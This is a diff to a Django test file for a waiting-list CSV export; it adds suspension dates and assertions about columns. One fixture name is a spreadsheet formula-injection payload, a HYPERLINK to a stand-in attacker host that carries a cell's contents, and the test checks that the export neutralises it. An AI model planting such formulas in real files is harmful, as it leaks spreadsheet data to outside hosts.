@@ -309,8 +309,8 @@ def test_waiting_list__shows_each_waiting_case_with_its_state(english):
 @pytest.mark.django_db
 def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(english):
     person = PersonFactory(given_name='=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', family_name="Hansen")
-    application = waiting_case(household=HouseholdFactory(applicant=person))
-    plain = waiting_case()
+    application = waiting_case(household=HouseholdFactory(applicant=person), suspended_until=TODAY - DAY)
+    plain = waiting_case(suspended_until=TODAY + 10 * DAY)
 
     response = english.get(reverse("allocation:waiting-list"), {"format": "csv"})
 
@@ -336,7 +336,9 @@ def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(
     assert by_case[application.ref][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Hansen'
     assert by_case[plain.ref][1] == str(plain.household.applicant)
     assert by_case[plain.ref][3] == "2026-10-01"
-    assert (by_case[plain.ref][6], by_case[plain.ref][7]) == ("nei", "Ordinary")  # words, not codes
+    assert (by_case[plain.ref][6], by_case[plain.ref][7]) == ("No", "Ordinary")  # words, not codes
+    # a suspension that ended yesterday is over; one that runs on is shown
+    assert (by_case[application.ref][8], by_case[plain.ref][8]) == ("", "2026-12-05")
 
 
 @pytest.mark.django_db
